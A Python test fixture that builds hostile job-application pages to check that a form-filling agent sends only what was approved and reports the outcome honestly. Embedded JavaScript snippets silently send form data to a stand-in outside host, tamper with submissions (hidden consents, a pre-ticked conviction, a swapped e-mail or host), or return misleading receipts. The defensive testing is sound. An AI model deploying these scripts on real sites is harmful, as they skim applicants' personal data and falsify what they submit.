"""The faults: each is a job site with one thing wrong, and what must come of an application to it."""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

from tests.battery.site import HostileSite, Route, Visit, slowly

FIELDS = """
<label>First name <input name=first required></label>
<label>Last name <input name=last required></label>
<label>Email <input name=email type=email required></label>
<label>Resume <input name=cv type=file required></label>
<fieldset><legend>Do you need visa sponsorship?</legend>
 <label><input type=radio name=visa value=y1>Yes</label><label><input type=radio name=visa value=n0>No</label></fieldset>
<input type=hidden name=job value=4711>
"""
THANKS = "<h1>Thank you for applying</h1><p>Your application has been received.</p>"
Ends = Literal["confirmed", "ambiguous", "stale", "not_prepared", "any"]
"""`not_prepared`: handed over or asked about before anything could be approved. `any`: every end that sends at most once is right."""


@dataclass(frozen=True)
class Fault:
    """`ends` is how the application must end if the page is prepared, approved and sent; `sent` how often the site may have received it.

    Nothing may arrive at the paths in `silent`.
    """

    name: str
    build: Callable[[HostileSite], None]
    ends: tuple[Ends, ...]
    sent: tuple[int, ...] = (1,)
    is_named: bool = False
    silent: tuple[str, ...] = ()

    @property
    def group(self) -> str:
        """The row of the table."""
        return self.name.partition(": ")[0] if ": " in self.name else "honest"


def form(
    script: str = "",
    extra: str = "",
    attributes: str = 'method=post action="/apply"',
    fields: str = FIELDS,
    button: str = "<button>Submit application</button>",
) -> str:
    return (
        f"<!doctype html><html lang=en><title>Data Engineer</title><body><h1>Data Engineer</h1><form id=f {attributes} enctype=multipart/form-data>{fields}{extra}{button}</form>"
        f"<script>const f = document.getElementById('f'); const val = n => (f.elements[n] || {{}}).value; {script}</script></body></html>"
    )


def shows(page: str) -> Route:
    return lambda visit: visit.answer(page)


def accepts(visit: Visit) -> None:
    visit.record()
    visit.redirect("/thanks")


def site_of(page: str, apply: Route = accepts, thanks: str = THANKS, **routes: Route) -> Callable[[HostileSite], None]:
    def build(site: HostileSite) -> None:
        text = _placed(page, site)
        site.routes = {"/jobs/1/apply": shows(text), "/apply": apply, "/thanks": shows(thanks)}
        site.routes |= {"/" + name.replace("__", "/"): route for name, route in routes.items()}

    return build


def _placed(page: str, site: HostileSite) -> str:
    return page.replace("OTHER", "http://" + site.other).replace("API", "http://" + site.api)


def answers(body: str, status: int = 200, is_recorded: bool = True) -> Route:
    def route(visit: Visit) -> None:
        if is_recorded:
            visit.record()
        visit.answer(body, status)

    return route


def records_then(act: Callable[[Visit], None]) -> Route:
    def route(visit: Visit) -> None:
        visit.record()
        act(visit)

    return route


SUBMIT = "f.addEventListener('submit', e => { e.preventDefault(); "
DONE = "document.body.innerHTML = '<h1>Thank you for applying</h1>'"
JSON_BODY = (
    "JSON.stringify({first: val('first'), last: val('last'), email: val('email'), visa: val('visa'), job: 4711})"
)

HONEST = (
    Fault("a plain form", site_of(form()), ("confirmed",)),
    Fault("fetch with the whole form", site_of(form(SUBMIT + f"fetch('/apply', {{method: 'POST', body: new FormData(f)}}).then(r => r.ok && ({DONE})) }})"), apply=answers("{}")), ("confirmed",)),
    Fault("PUT", site_of(form(SUBMIT + f"fetch('/apply', {{method: 'PUT', body: new FormData(f)}}).then(r => r.ok && ({DONE})) }})"), apply=answers("{}")), ("confirmed",)),
    Fault("a token first", site_of(form(SUBMIT + f"fetch('/token', {{method: 'POST'}}).then(r => r.text()).then(t => fetch('/apply', {{method: 'POST', headers: {{'x-csrf': t}}, body: new FormData(f)}})).then(r => r.ok && ({DONE})) }})"), apply=answers("{}"), token=shows("abc123abc123abc123")), ("confirmed",)),
    Fault("an answer in place", site_of(form(), apply=answers(THANKS)), ("confirmed",)),
    Fault("a hidden token that changes with every page", lambda site: _changing_token(site), ("confirmed",)),
)  # fmt: skip


def _changing_token(site: HostileSite) -> None:
    count = iter(range(1000))

    def page(visit: Visit) -> None:
        visit.answer(form(extra=f"<input type=hidden name=csrf value=tok{next(count):029d}>"))

    site.routes = {"/jobs/1/apply": page, "/apply": accepts, "/thanks": shows(THANKS)}


def leak(name: str, script: str, **routes: Route) -> Fault:
    return Fault(f"leaks: {name}", site_of(form(script), **routes), ("any",), (0, 1))


ALL = "[...new FormData(f)].map(p => p.join('=')).join('&')"
LEAKS = (
    leak("autosave by fetch", f"f.addEventListener('input', () => fetch('/draft', {{method: 'POST', body: {ALL}}}))", draft=shows("ok")),
    leak("autosave to a stranger", f"f.addEventListener('input', () => fetch('OTHER/draft', {{method: 'POST', mode: 'no-cors', body: {ALL}}}))"),
    leak("beacon on blur", f"f.addEventListener('focusout', () => navigator.sendBeacon('/draft', {ALL}))"),
    leak("an image", f"setInterval(() => {{ new Image().src = 'OTHER/i?' + {ALL} }}, 100)"),
    leak("a web socket", f"setInterval(() => {{ const w = new WebSocket('OTHER/'.replace('http', 'ws') + '?' + encodeURIComponent({ALL})); }}, 200)"),
    leak("event source", f"setInterval(() => {{ new EventSource('/e?' + {ALL}) }}, 200)"),
    leak("a frame", f"setInterval(() => {{ const i = document.createElement('iframe'); i.src = 'OTHER/f?' + {ALL}; document.body.append(i) }}, 300)"),
    leak("a style sheet", f"setInterval(() => {{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'OTHER/s?' + {ALL}; document.head.append(l) }}, 300)"),
    leak("a new tab", f"f.addEventListener('change', () => window.open('OTHER/w?' + {ALL}))"),
    leak("the whole application while it is filled", "f.addEventListener('change', () => fetch('/apply', {method: 'POST', body: new FormData(f)}))"),
    leak("the document, uploaded at once", "f.elements.cv.addEventListener('change', e => { const d = new FormData(); d.append('cv', e.target.files[0]); fetch('/upload', {method: 'POST', body: d}) })", upload=shows("{}")),
    leak("the address of the page", f"f.addEventListener('change', () => history.replaceState(0, '', '?' + {ALL}))"),
    leak("a cookie", "f.addEventListener('input', () => { document.cookie = 'who=' + val('email') })"),
    leak("a beacon when the page goes", f"addEventListener('pagehide', () => navigator.sendBeacon('/bye', {ALL}))"),
    leak("a worker", f"f.addEventListener('change', () => new Worker(URL.createObjectURL(new Blob([`fetch('OTHER/k', {{method: 'POST', mode: 'no-cors', body: ${{JSON.stringify({ALL})}}}})`]))))"),
    leak("submit by itself", "setTimeout(() => f.submit(), 2500)"),
    leak("submit by itself, empty", "setTimeout(() => f.submit(), 100)"),
    leak("submit when complete", "f.addEventListener('change', () => { if (f.checkValidity()) f.requestSubmit() })"),
    leak("the address in base64", "f.addEventListener('change', () => { new Image().src = '/p.gif?u=' + btoa(val('email')) })"),
    leak("prefetch", f"f.addEventListener('change', () => {{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '/n?' + {ALL}; document.head.append(l) }})"),
    leak("navigation", f"f.addEventListener('change', () => {{ if (val('email')) location.hash = {ALL} }})"),
)  # fmt: skip


def change(name: str, script: str = "", extra: str = "") -> Fault:
    """What would be sent is not what was approved: it changes between the approval and the sending."""
    return Fault(f"changes: {name}", lambda site: _after_approval(site, script, extra), ("stale", "ambiguous"), (0,))


def _after_approval(site: HostileSite, script: str, extra: str) -> None:
    """The page is honest until `site.visits` counts the approval; `/approved` is visited by the battery."""

    def page(visit: Visit) -> None:
        is_approved = "/approved" in visit.site.visits
        text = form(script if is_approved else "", extra if is_approved else "").replace(
            "OTHER", "http://" + site.other
        )
        visit.answer(text)

    site.routes = {"/jobs/1/apply": page, "/apply": accepts, "/thanks": shows(THANKS), "/approved": shows("")}


CHANGES = (
    change("a choice flipped on the wire", "f.addEventListener('formdata', e => e.formData.set('visa', 'y1'))"),
    change("first and last name swapped", "f.addEventListener('formdata', e => { const d = e.formData, a = d.get('first'); d.set('first', d.get('last')); d.set('last', a) })"),
    change("a hidden consent", extra="<input type=hidden name=marketing value=yes>"),
    change("another job's id", "f.elements.job.value = '9999'"),
    change("another e-mail on the wire", "f.addEventListener('formdata', e => e.formData.set('email', 'else@example.org'))"),
    change("without the document", "f.addEventListener('formdata', e => e.formData.delete('cv'))"),
    change("another document", "f.addEventListener('formdata', e => e.formData.set('cv', new File(['x'], 'x.pdf')))"),
    change("a note added", "f.addEventListener('formdata', e => e.formData.append('note', 'I have ten years of experience'))"),
    change("another address", "f.action = '/apply?job=2'"),
    change("another host", "f.action = 'OTHER/apply'"),
    change("by GET", "f.method = 'get'"),
    change("a pre-ticked conviction", extra="<label hidden><input type=checkbox name=convicted value=yes checked>Convicted</label>"),
    change("a value appended", "f.addEventListener('formdata', e => e.formData.append('first', 'Eve'))"),
)  # fmt: skip

RECEIPTS = (
    Fault("lies: 500 after recording, with thanks", site_of(form(), apply=answers(THANKS, 500)), ("ambiguous",)),
    Fault("lies: 503 with thanks", site_of(form(), apply=answers(THANKS, 503, is_recorded=False)), ("ambiguous",), (0,)),
    Fault("lies: not saved, thank you", site_of(form(), apply=answers("<h1>Your application was not saved. Thank you for applying</h1>", is_recorded=False)), ("ambiguous",), (0,)),
    Fault("lies: try again, in a heading", site_of(form(), apply=answers("<h1>Thank you for applying, please try again later</h1>", is_recorded=False)), ("ambiguous",), (0,)),
    Fault("lies: thanks in the footer of an error", site_of(form(), apply=answers("<h1>Something went wrong</h1><footer>Thank you for applying to Acme</footer>", is_recorded=False)), ("ambiguous",), (0,)),
    Fault("lies: maintenance with thanks", site_of(form(), apply=answers("<h1>We are down for maintenance</h1><p>Thank you for applying your patience</p>", is_recorded=False)), ("ambiguous",), (0,)),
    Fault("lies: an empty page", site_of(form(), apply=answers("")), ("ambiguous",)),
    Fault("lies: the home page", site_of(form(), apply=answers("<h1>Careers at Acme</h1>")), ("ambiguous",)),
)  # fmt: skip

BREAKS = (
    Fault("breaks: reset after recording", site_of(form(), apply=records_then(Visit.reset)), ("ambiguous",)),
    Fault("breaks: reset before recording", site_of(form(), apply=Visit.reset), ("ambiguous",), (0,)),
    Fault("breaks: 500 after recording", site_of(form(), apply=answers("<h1>Server error</h1>", 500)), ("ambiguous",)),
    Fault("breaks: 503 before recording", site_of(form(), apply=answers("<h1>Busy</h1>", 503, is_recorded=False)), ("ambiguous",), (0,)),
    Fault("breaks: a slow answer", site_of(form(), apply=slowly(3, accepts)), ("confirmed",)),
    Fault("breaks: 307 to itself", site_of(form(), apply=records_then(lambda visit: visit.redirect("/apply", 307))), ("ambiguous",)),
    Fault("breaks: 308 to a stranger", site_of(form(), apply=records_then(lambda visit: visit.redirect(f"http://{visit.site.other}/apply", 308))), ("ambiguous",)),
    Fault("breaks: a redirect loop", site_of(form(), apply=records_then(lambda visit: visit.redirect("/loop")), loop=lambda visit: visit.redirect("/loop")), ("ambiguous",)),
    Fault("breaks: the whole application twice over", lambda site: _after_approval(site, "f.addEventListener('submit', () => fetch('/apply', {method: 'POST', body: new FormData(f)}))", ""), ("ambiguous", "confirmed", "stale"), (0, 1)),
    Fault("breaks: three clicks", site_of(form("f.addEventListener('submit', () => { setTimeout(() => f.submit(), 5); setTimeout(() => f.submit(), 10) })")), ("any",), (0, 1)),
)  # fmt: skip

FAULTS = (*HONEST, *LEAKS, *CHANGES, *RECEIPTS, *BREAKS)
